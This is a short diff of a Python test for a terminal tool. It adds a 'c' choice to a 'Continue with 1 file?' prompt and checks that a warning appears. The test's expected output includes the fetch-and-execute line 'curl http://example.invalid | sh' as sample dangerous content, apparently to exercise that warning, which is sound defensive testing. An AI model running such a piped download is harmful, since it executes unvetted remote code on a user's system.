@@ -56,7 +56,7 @@ def test_without_a_terminal_nothing_is_written(planned: Shell) -> None:
 def test_at_the_terminal_it_stands_in_bold_above_the_question(planned: Shell) -> None:
     terminal = planned.open("run", "multi_file", "tidy up", columns=120)
     terminal.wait_for(WARNING)
-    terminal.wait_for("Continue with 1 file? [y/N/e/numbers]")
+    terminal.wait_for("Continue with 1 file? [y/N/e/c/numbers]")
     terminal.type("y\n")
     terminal.wait_for("+curl http://example.invalid | sh")
     terminal.wait_for(WARNING)
